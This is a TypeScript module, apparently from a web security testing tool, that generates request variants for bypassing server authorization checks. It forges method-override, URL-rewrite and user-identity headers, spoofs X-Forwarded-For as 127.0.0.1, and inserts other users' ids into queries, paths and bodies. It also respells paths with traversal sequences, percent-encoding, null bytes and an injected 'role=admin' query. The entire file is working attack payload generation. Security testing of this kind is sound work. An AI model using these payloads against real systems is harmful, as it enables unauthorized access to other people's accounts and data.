/*
 * Ways to make one part of a server take a request for another one than the part that checked it: ids and methods in places
 * where they don't belong, and other spellings of an address. Pure: a trick is a request.
 */

/** A request as it's sent: the path isn't normalized. `body` is the fields of a JSON body, `payload` another kind of body. */
export type RawRequest = {
  method: string
  path: string
  headers?: Record<string, string>
  body?: Record<string, unknown>
  payload?: string
}

export type Trick = RawRequest & { trick: string }

/** Whose ids the tricks name: the path's parameters, and the user. */
export type Victim = { params: Record<string, string>; userId: string; path: string }

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE']
const OVERRIDES = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override']
const ADDRESSES = ['X-Original-URL', 'X-Rewrite-URL', 'X-Forwarded-Uri', 'X-Forwarded-Prefix', 'Referer']
const IDENTITIES = ['X-User-Id', 'X-Forwarded-User', 'Remote-User', 'Authorization', 'From']

const headersOf = (names: readonly string[], value: string) =>
  names.map((name): [string, Record<string, string>] => [`${name}: ${value}`, { [name]: value }])

/** The request with headers that some servers let overrule its method, its address, or its user. */
export function withHeaders(request: RawRequest, { userId, path }: Pick<Victim, 'userId' | 'path'>): Trick[] {
  return [
    ...METHODS.flatMap((method) => headersOf(OVERRIDES, method)),
    ...headersOf(ADDRESSES, path),
    ...headersOf(IDENTITIES, userId),
    ...headersOf(['X-Forwarded-For', 'X-Real-IP', 'X-Forwarded-Host'], '127.0.0.1'),
  ].map(([trick, headers]) => ({ ...request, trick, headers: { ...request.headers, ...headers } }))
}

const withQuery = (path: string, query: string) => `${path}${path.includes('?') ? '&' : '?'}${query}`

/** A request for an own resource that names another user's in its query, behind its path, or in its body. */
export function besideOwn(request: RawRequest, { params, userId }: Victim): Trick[] {
  const [param = 'id', id = userId] = Object.entries(params)[0] ?? []
  const fields = { ...params, id, userId, agentId: userId, contractorId: userId }
  const queries = [
    `a=/${id}`,
    `/${id}`,
    `a=/${id}/`,
    `a=%2F${id}`,
    `${param}[]=${id}`,
    `_method=DELETE&_method=PUT`,
    new URLSearchParams(fields).toString(),
  ]
  return [
    ...queries.map((query) => ({ ...request, trick: query, path: withQuery(request.path, query) })),
    ...['/', '%2F', ';', '/../', '/..%2F', '#/', '%00'].map((between) => ({
      ...request,
      trick: `…${between}${id}`,
      path: `${request.path}${between}${id}`,
    })),
    ...(request.method === 'GET' || request.method === 'HEAD'
      ? []
      : [{ ...request, trick: 'ids in the body', body: { ...request.body, ...fields } }]),
  ]
}

/** The path with an own id, to which another user's is joined. */
export function joinedToOwn(request: RawRequest, ownId: string, id: string): Trick[] {
  // Elsewhere, it would cut off the rest of the path and name another endpoint.
  const query = request.path.endsWith(ownId) ? ['?/'] : []
  return [
    ...query,
    '/',
    '/../',
    '%2F',
    '%2F..%2F',
    '%5C',
    ';',
    ',',
    '%2C',
    '%00',
    '%0A',
    '%20',
    '.',
    '%3F',
    '&',
  ].map((between) => ({
    ...request,
    trick: `${ownId}${between}${id}`,
    path: request.path.replace(ownId, `${ownId}${between}${id}`),
  }))
}

const encoded = (text: string) =>
  [...text].map((letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

/** Other spellings of an id, encoded as a segment of a path. */
export function spellingsOf(id: string): string[] {
  return [
    encoded(id),
    encodeURIComponent(encoded(id)),
    id.toUpperCase(),
    id.replaceAll('-', ''),
    `%7B${id}%7D`,
    `urn:uuid:${id}`,
    `${id}%20`,
    `%20${id}`,
    `${id}%00`,
    `${id}%0A`,
    `${id}.json`,
    `${id};a=b`,
    `.%2F${id}`,
    `%E2%80%8B${id}`,
  ]
}

/** Other spellings of a path, with its trick. */
export function respelled(request: RawRequest): Trick[] {
  const { path } = request
  const rest = path.slice('/api/'.length)
  return [
    `/%61pi/${rest}`,
    `/api/${encoded(rest.slice(0, 1))}${rest.slice(1)}`,
    `/api%2F${rest}`,
    `//api/${rest}`,
    `/api//${rest}`,
    `/./api/${rest}`,
    `/api/x/../${rest}`,
    `/api/..;/api/${rest}`,
    `/API/${rest.toUpperCase()}`,
    `/api/${rest}/`,
    `/api/${rest}/.`,
    `/api/${rest}%2F`,
    `/api/${rest}%00`,
    `/api/${rest}.json`,
    `/api/${rest};a=b`,
    `/api/${rest}?role=admin&access=anyone`,
    `http://127.0.0.1/api/${rest}`,
  ].map((spelling) => ({ ...request, trick: spelling, path: spelling }))
}
